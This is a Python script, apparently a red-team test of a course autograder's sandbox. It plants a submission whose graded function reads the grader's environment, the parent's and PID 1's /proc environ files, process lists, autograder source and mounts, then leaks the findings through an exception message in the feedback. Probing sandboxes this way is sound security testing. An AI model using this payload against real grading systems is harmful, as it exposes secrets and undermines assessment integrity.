"""Recon from inside a check's child (the observer's sandbox): the student's partition_layers, called by the
observer's child, lists what it can see (root, the checkout, autograders/, /proc, env, fds, the parent's
/proc files) and hands it back in the ValueError message the check reports (the feedback shows it)."""
from lib import *
A = "ps1_memory"
RECON = r'''
def _recon():
    import os, glob
    out = []
    def t(label, f):
        try: out.append(f"{label}={f()!r}"[:600])
        except Exception as e: out.append(f"{label}!{type(e).__name__}:{e}"[:200])
    t("uid", lambda: (os.getuid(), os.getpid(), os.getppid(), os.getsid(0)))
    t("root", lambda: sorted(os.listdir("/")))
    t("tmp", lambda: sorted(os.listdir("/tmp")))
    t("opt", lambda: sorted(os.listdir("/opt")))
    t("clone", lambda: sorted(os.listdir((__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))))
    t("autograders", lambda: open("CLONE/autograders/ps1_memory.py").read()[:100])
    t("procs", lambda: [(p, open(f"/proc/{p}/cmdline","rb").read()[:80]) for p in os.listdir("/proc") if p.isdigit()])
    t("env", lambda: dict(os.environ))
    t("fds", lambda: {f: os.readlink(f"/proc/self/fd/{f}") for f in os.listdir("/proc/self/fd")})
    t("ppid_fds", lambda: os.listdir(f"/proc/{os.getppid()}/fd"))
    t("ppid_environ", lambda: open(f"/proc/{os.getppid()}/environ","rb").read()[:200])
    t("pid1_environ", lambda: open("/proc/1/environ","rb").read()[:300])
    t("cwd", lambda: (os.getcwd(), os.listdir(".")))
    t("mounts", lambda: [l.split()[4] + ' ' + l.split()[5] for l in open("/proc/self/mountinfo")])
    return " | ".join(out)
'''
src = source_nb(A)
from tools.submissions import solution_text
pl = [solution_text(c) for c in src.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "partition_layers"][0]
code = RECON + pl.replace("def partition_layers(costs, k):", "def partition_layers(costs, k):\n    import os\n    if os.environ.get('DISTCOURSE_SANDBOXED') and not os.path.exists('/tmp/.r'):\n        open('/tmp/.r','w')\n    raise ValueError('RECON ' + _recon())", 1)
d = make_course("a06")
hand_in(d, "aaron", A, honest(A))
hand_in(d, "mallory", A, fill(release_nb(A), src, {"partition_layers": code}))
hand_in(d, "zoe", A, honest(A))
grade(d, A)
os.system(f"cat {d}/grades.csv")
nb = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", as_version=4)
for c in nb.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") in ("partition_layers_optimal", "partition_layers_bad_input"):
        for o in c.outputs:
            print(c.metadata["nbgrader"]["grade_id"], (o.get("text") or o.get("evalue") or str(o))[:20000])
